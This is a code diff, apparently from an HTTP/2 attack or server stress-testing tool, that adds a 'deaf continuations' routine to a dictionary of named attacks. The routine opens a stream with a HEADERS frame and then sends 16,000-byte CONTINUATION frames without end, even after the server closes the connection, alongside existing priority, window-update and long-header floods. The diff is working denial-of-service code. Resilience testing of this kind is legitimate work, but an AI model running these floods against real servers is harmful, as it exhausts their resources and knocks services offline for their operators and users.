@@ -251,6 +251,14 @@ def continued(wire: Wire, stop: Stop) -> None:
         wire.send(frame(CONTINUATION, 0, wire.stream, field(b"x-filler", b"y" * 16000)))
 
 
+def deaf(wire: Wire, stop: Stop) -> None:
+    """Headers that go on after the server has ended the connection, for as long as the kernel takes them."""
+    wire.stream += 2
+    wire.send(frame(HEADERS, 0, wire.stream, wire.head(RECOMMEND.encode())))
+    while not stop():
+        wire.send(frame(CONTINUATION, 0, wire.stream, field(b"x-filler", b"y" * 16000)))
+
+
 def long_headers(wire: Wire, stop: Stop) -> None:
     """Calls whose headers are many, long, and no text."""
     while not stop() and not wire.closed:
@@ -347,6 +355,7 @@ ATTACKS: dict[str, Attack] = {
     "priorities": flooding(lambda _: frame(PRIORITY, 0, 1, bytes(5)) * 100),
     "window updates": flooding(lambda _: frame(WINDOW, 0, 0, (1).to_bytes(4)) * 100),
     "continuations": continued,
+    "deaf continuations": deaf,
     "long headers": long_headers,
     "headers that are no text": no_text,
     "largest messages": largest,
